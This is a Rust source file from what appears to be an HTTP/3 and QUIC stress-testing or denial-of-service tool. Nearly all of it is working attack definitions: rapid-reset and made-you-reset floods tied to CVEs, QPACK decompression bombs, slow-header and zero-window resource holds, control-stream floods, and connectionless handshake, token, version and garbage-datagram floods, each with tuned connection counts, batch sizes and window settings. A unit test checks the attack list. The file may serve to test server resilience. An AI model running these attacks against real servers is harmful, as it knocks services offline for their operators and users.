//! Definitions of the attacks on HTTP/3 and QUIC.

use http3::OwnStream;
use http3::frame::kind;

use super::quic_wire::*;
use super::wire::AttackTarget;

/// Action of an attack connection, or of an attack without connections.
#[derive(Clone, Debug)]
pub enum QuicAction {
    /// Opens a request stream and sends these bytes on it; waits until the server allows a stream.
    Request(Vec<u8>, RequestEnding),
    /// Opens request streams that begin with these bytes until there are [`STREAMS`] or the server allows no
    /// more.
    Refill(Vec<u8>),
    /// Sends these bytes on each open request stream.
    Append(Vec<u8>),
    /// Sends bytes on the only request stream; if the server has ended it, on a new one.
    Flood {
        /// First bytes of the stream.
        start: Vec<u8>,
        /// Bytes to send after those already sent.
        more: Vec<u8>,
    },
    /// Sends these bytes on one of the client's own streams.
    Own(OwnStream, Vec<u8>),
    /// Sends a packet with a PING frame.
    Ping,
    /// Continues from another local port.
    Migrate,
    /// Closes the connection; another is made at once.
    Close,
    /// Sends a datagram of these packets, without a connection.
    Initials(Vec<InitialPacket>),
    /// Sends this datagram, without a connection.
    Datagram(Vec<u8>),
}

/// State of a request stream after its bytes were sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RequestEnding {
    /// Further bytes may follow.
    Open,
    /// The request is complete.
    Finish,
    /// The request is reset, and its response too (RESET_STREAM, STOP_SENDING).
    Reset,
}

/// Target of attacks on HTTP/3 and QUIC.
#[derive(Clone, Debug)]
pub struct QuicTarget {
    /// Target of the requests.
    pub http: AttackTarget,
    /// ClientHello in a CRYPTO frame.
    pub hello: Vec<u8>,
}

/// Definition of an attack on HTTP/3 or QUIC.
#[derive(Clone, Copy)]
pub struct QuicAttack {
    /// Name, as `--only` takes it.
    pub name: &'static str,
    /// Description, with the CVE number if there is one.
    pub about: &'static str,
    /// Number of concurrent connections; 0 for an attack by datagrams without connections.
    pub connections: usize,
    /// Whether the attacker reads the server's responses.
    pub reads_responses: bool,
    /// Milliseconds between two turns of a connection; 0 for as fast as possible.
    pub pause_ms: u64,
    /// Flow-control window of a connection in bytes (MAX_DATA).
    pub connection_window: u32,
    /// Flow-control window of a stream in bytes (MAX_STREAM_DATA).
    pub stream_window: u32,
    /// Returns the actions of a turn (numbered from 0), after the handshake; nothing if the connection stays as
    /// it is from now on.
    pub turn: fn(&QuicTarget, usize) -> Vec<QuicAction>,
}

/// Maximum number of streams that an attack opens at the same time.
pub const STREAMS: usize = 100;
/// Frames, requests or datagrams per turn of a flood.
const BATCH: usize = 100;
/// Size of the field value that sections refer to repeatedly.
const BOMB_VALUE_BYTES: usize = 4_000;
/// Size of the sections that are never complete or wait for the table.
const SECTION_BYTES: usize = 8_000;
/// Number of streams that most servers let wait for the dynamic table.
const BLOCKED_STREAMS: usize = 16;
/// Frame type without a meaning, which servers must ignore (RFC 9114 section 7.2.8).
const UNKNOWN: u64 = 0x21;
/// Largest offset of a CRYPTO frame, below usual limits.
const CRYPTO_OFFSET_MAX: usize = 16_000;
/// Versions of QUIC that no server has (RFC 9000 section 15).
const UNKNOWN_VERSION: u32 = 0x1a2a_3a4a;

/// Flood, which sends as fast as possible.
const FLOOD: QuicAttack = QuicAttack {
    name: "",
    about: "",
    connections: 4,
    reads_responses: true,
    pause_ms: 0,
    connection_window: 16 << 20,
    stream_window: 1 << 20,
    turn: |_, _| Vec::new(),
};
/// Attack that occupies memory and reads nothing.
const HOLD: QuicAttack = QuicAttack { connections: 50, reads_responses: false, pause_ms: 100, ..FLOOD };
/// Attack by datagrams without connections.
const FORGED: QuicAttack = QuicAttack { connections: 0, ..FLOOD };

fn requests(count: usize, bytes: &[u8], ending: RequestEnding) -> Vec<QuicAction> {
    vec![QuicAction::Request(bytes.to_vec(), ending); count]
}

fn on_own_stream(stream: OwnStream, bytes: Vec<u8>) -> QuicAction {
    QuicAction::Own(stream, bytes)
}

/// Returns the requests of the first turn of an attack that then does nothing.
fn hold_requests(to: &QuicTarget, turn: usize) -> Vec<QuicAction> {
    if turn > 0 { Vec::new() } else { requests(STREAMS, &to.http.http3(false, 0), RequestEnding::Finish) }
}

/// Returns the bytes that give the dynamic table one large entry.
fn large_entry() -> Vec<u8> {
    [set_capacity(TABLE_BYTES), insert(b"x", &[b'v'; BOMB_VALUE_BYTES])].concat()
}

/// Returns a request with references to a large entry, which the first turn adds to the dynamic table.
fn bomb(to: &QuicTarget, turn: usize, references: usize) -> Vec<QuicAction> {
    let request = QuicAction::Request(to.http.http3(false, references), RequestEnding::Finish);
    if turn == 0 { vec![on_own_stream(OwnStream::Encoder, large_entry()), request] } else { vec![request] }
}

/// Returns a section of `len` bytes, most of them fields.
fn long_section(to: &QuicTarget, prefix: &[u8], len: usize) -> Vec<u8> {
    let mut section = [prefix, &to.http.field_lines(false)].concat();
    while section.len() < len {
        push_literal(&mut section, b"a", b"b");
    }
    section
}

/// Returns an Initial packet that fills a datagram.
fn initial(connection: usize, number: u32, token: Vec<u8>, frames: &[u8]) -> InitialPacket {
    InitialPacket {
        connection: connection as u64,
        number,
        token,
        frames: frames.to_vec(),
        size: INITIAL_BYTES,
    }
}

/// Returns a batch of datagrams of one packet each.
fn initial_batch(turn: usize, packet: impl Fn(usize) -> InitialPacket) -> Vec<QuicAction> {
    (turn * BATCH..(turn + 1) * BATCH).map(|at| QuicAction::Initials(vec![packet(at)])).collect()
}

/// All attacks on HTTP/3 and QUIC.
pub const QUIC_ATTACKS: &[QuicAttack] = &[
    QuicAttack {
        name: "h3-rapid-reset",
        about: "requests that are reset at once (as CVE-2023-44487)",
        turn: |to, _| requests(BATCH, &to.http.http3(false, 0), RequestEnding::Reset),
        ..FLOOD
    },
    QuicAttack {
        name: "h3-made-you-reset",
        about: "requests that the server is made to reset by malformed trailers (as CVE-2025-8671)",
        turn: |to, _| {
            let request = to.http.http3(false, 0);
            requests(BATCH, &[&request[..], &request].concat(), RequestEnding::Finish)
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-header-flood",
        about: "header sections of 1 MiB",
        turn: |to, _| {
            let section = long_section(to, &[0, 0], 1 << 20);
            requests(1, &frame(kind::HEADERS, &section), RequestEnding::Open)
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-slow-heads",
        about: "header sections that come byte by byte on all streams",
        connections: 20,
        pause_ms: 50,
        turn: |to, turn| {
            let head = begin_frame(kind::HEADERS, SECTION_BYTES);
            let section = long_section(to, &[0, 0], SECTION_BYTES);
            let byte = section.get(turn).copied().unwrap_or(b'x');
            vec![QuicAction::Refill(head), QuicAction::Append(vec![byte])]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-dribbled-bodies",
        about: "bodies that come byte by byte on all streams",
        connections: 20,
        pause_ms: 50,
        turn: |to, _| {
            vec![QuicAction::Refill(to.http.http3(true, 0)), QuicAction::Append(frame(kind::DATA, b"x"))]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-empty-data",
        about: "DATA frames without a byte",
        turn: |to, _| {
            vec![QuicAction::Flood {
                start: to.http.http3(true, 0),
                more: frame(kind::DATA, &[]).repeat(1_000),
            }]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-unknown-frames",
        about: "frames of an unknown type on request streams",
        turn: |to, _| {
            vec![QuicAction::Flood { start: to.http.http3(true, 0), more: frame(UNKNOWN, &[]).repeat(1_000) }]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-unread-responses",
        about: "responses on all streams, not read",
        connection_window: 1 << 20,
        turn: hold_requests,
        ..HOLD
    },
    QuicAttack {
        name: "h3-zero-window",
        about: "responses under stream windows of 0",
        stream_window: 0,
        turn: hold_requests,
        ..HOLD
    },
    QuicAttack {
        name: "h3-dripped-window",
        about: "responses that are allowed 16 bytes at a time",
        connections: 10,
        pause_ms: 20,
        stream_window: 16,
        turn: |to, _| requests(BATCH, &to.http.http3(false, 0), RequestEnding::Finish),
        ..FLOOD
    },
    QuicAttack {
        name: "h3-qpack-bomb",
        about: "heads of 12 KB that unpack to 48 MB",
        turn: |to, turn| bomb(to, turn, 12_000),
        ..FLOOD
    },
    QuicAttack {
        name: "h3-indexed-references",
        about: "small heads that unpack thousandfold, windows of 0 (as CVE-2026-49975)",
        connections: 20,
        pause_ms: 1,
        stream_window: 0,
        turn: |to, turn| bomb(to, turn, 3),
        ..HOLD
    },
    QuicAttack {
        name: "h3-table-churn",
        about: "instructions that empty and fill QPACK's table",
        turn: |_, _| {
            let churn = [set_capacity(0), large_entry()].concat();
            vec![on_own_stream(OwnStream::Encoder, churn.repeat(10))]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-encoder-flood",
        about: "instructions that duplicate an entry of QPACK's table",
        turn: |_, turn| {
            let bytes = if turn > 0 {
                vec![0; 10_000]
            } else {
                [set_capacity(TABLE_BYTES), insert(b"x", b"v")].concat()
            };
            vec![on_own_stream(OwnStream::Encoder, bytes)]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-blocked-streams",
        about: "heads with references to an entry that is never sent",
        turn: |to, turn| match turn {
            0 => {
                let mut section = long_section(to, &[2, 0], SECTION_BYTES);
                section.push(0x80);
                let head = frame(kind::HEADERS, &section);
                let mut actions = requests(BLOCKED_STREAMS, &head, RequestEnding::Finish);
                actions.insert(0, on_own_stream(OwnStream::Encoder, set_capacity(TABLE_BYTES)));
                actions
            }
            _ => Vec::new(),
        },
        ..HOLD
    },
    QuicAttack {
        name: "h3-priority-update-flood",
        about: "PRIORITY_UPDATE frames for streams to come",
        turn: |_, _| {
            let update = |at: usize| {
                let mut payload = Vec::new();
                push_varint(&mut payload, at as u32 * 4);
                payload.extend_from_slice(b"u=1");
                frame(kind::PRIORITY_UPDATE, &payload)
            };
            vec![on_own_stream(OwnStream::Control, (0..STREAMS).flat_map(update).collect())]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "h3-control-flood",
        about: "GOAWAY, MAX_PUSH_ID and unknown frames on the control stream",
        turn: |_, turn| {
            let frames = [
                integer_frame(kind::GOAWAY, 0),
                integer_frame(kind::MAX_PUSH_ID, turn as u32 & 0x3fff_ffff),
                frame(UNKNOWN, b"unknown"),
            ];
            vec![on_own_stream(OwnStream::Control, frames.concat().repeat(BATCH))]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "quic-ping-flood",
        about: "packets with PING frames",
        turn: |_, _| vec![QuicAction::Ping; BATCH],
        ..FLOOD
    },
    QuicAttack {
        name: "quic-migration-flood",
        about: "another port for every few packets",
        turn: |to, _| {
            let request = QuicAction::Request(to.http.http3(false, 0), RequestEnding::Finish);
            vec![QuicAction::Migrate, request, QuicAction::Ping, QuicAction::Ping]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "quic-connection-churn",
        about: "connections that are closed after the handshake and a request",
        connections: 8,
        turn: |to, _| {
            let request = QuicAction::Request(to.http.http3(false, 0), RequestEnding::Finish);
            vec![request, QuicAction::Close]
        },
        ..FLOOD
    },
    QuicAttack {
        name: "quic-handshake-flood",
        about: "handshakes that are never finished, from many ports",
        turn: |to, turn| initial_batch(turn, |at| initial(at, 0, Vec::new(), &to.hello)),
        ..FORGED
    },
    QuicAttack {
        name: "quic-token-flood",
        about: "Initial packets with invalid tokens",
        turn: |to, turn| initial_batch(turn, |at| initial(at, 0, vec![at as u8; 64], &to.hello)),
        ..FORGED
    },
    QuicAttack {
        name: "quic-crypto-fragments",
        about: "ClientHellos without a beginning, in CRYPTO frames of one byte with gaps",
        turn: |_, turn| {
            // Every second byte of the ClientHello, never the first.
            let mut offsets = (1..CRYPTO_OFFSET_MAX as u32).step_by(2).peekable();
            let mut actions = Vec::new();
            while offsets.peek().is_some() {
                let frames: Vec<u8> =
                    offsets.by_ref().take(200).flat_map(|at| crypto_frame(at, b"x")).collect();
                let number = actions.len() as u32;
                actions.push(QuicAction::Initials(vec![initial(turn, number, Vec::new(), &frames)]));
            }
            actions
        },
        ..FORGED
    },
    QuicAttack {
        name: "quic-coalesced-initials",
        about: "datagrams of Initial packets of several connections (CVE-2025-54939)",
        turn: |to, turn| {
            let datagram = |at: usize| {
                let size = INITIAL_BYTES - 6 * 100;
                let first = InitialPacket { size, ..initial(at * 8, 0, Vec::new(), &to.hello) };
                let more = (1..=6).map(|connection| InitialPacket {
                    size: 100,
                    ..initial(at * 8 + connection, 0, Vec::new(), &crypto_frame(0, b"\x01"))
                });
                QuicAction::Initials(std::iter::once(first).chain(more).collect())
            };
            (turn * BATCH..(turn + 1) * BATCH).map(datagram).collect()
        },
        ..FORGED
    },
    QuicAttack {
        name: "quic-version-flood",
        about: "packets of an unknown version, which ask for Version Negotiation",
        turn: |_, turn| {
            let datagram = |at: usize| {
                let mut bytes = vec![0xc0];
                bytes.extend((UNKNOWN_VERSION | at as u32 & 0xf0f0_f0f0).to_be_bytes());
                bytes.push(8);
                bytes.extend((at as u64).to_be_bytes());
                bytes.extend([8, 1, 2, 3, 4, 5, 6, 7, 8]);
                bytes.resize(INITIAL_BYTES, 0);
                QuicAction::Datagram(bytes)
            };
            (turn * BATCH..(turn + 1) * BATCH).map(datagram).collect()
        },
        ..FORGED
    },
    QuicAttack {
        name: "quic-garbage",
        about: "datagrams of random bytes, which may ask for a stateless reset",
        turn: |_, turn| {
            let mut random = fastrand::Rng::with_seed(turn as u64);
            let mut datagram = || {
                let mut bytes = vec![0; random.usize(1..1_400)];
                random.fill(&mut bytes);
                QuicAction::Datagram(bytes)
            };
            (0..BATCH).map(|_| datagram()).collect()
        },
        ..FORGED
    },
];

#[cfg(test)]
mod tests {
    use super::super::attacks::ATTACKS;
    use super::*;

    #[test]
    fn every_attack_has_a_unique_name_and_sends_bytes() {
        let http = AttackTarget { authority: "a".into(), path: "/".into(), is_https: true };
        let to = QuicTarget { http, hello: crypto_frame(0, &[1; 300]) };
        for attack in QUIC_ATTACKS {
            assert!(attack.name.starts_with("h3-") || attack.name.starts_with("quic-"), "{}", attack.name);
            assert_eq!(QUIC_ATTACKS.iter().filter(|other| other.name == attack.name).count(), 1);
            assert!(ATTACKS.iter().all(|other| other.name != attack.name));
            let actions = (attack.turn)(&to, 0);
            let is_forged =
                |action: &QuicAction| matches!(action, QuicAction::Initials(_) | QuicAction::Datagram(_));
            assert!(!actions.is_empty(), "{}", attack.name);
            assert!(
                actions.iter().all(|action| is_forged(action) == (attack.connections == 0)),
                "{}: datagrams belong to attacks without connections, and no other",
                attack.name
            );
            let _ = (attack.turn)(&to, 12_345);
        }
    }
}
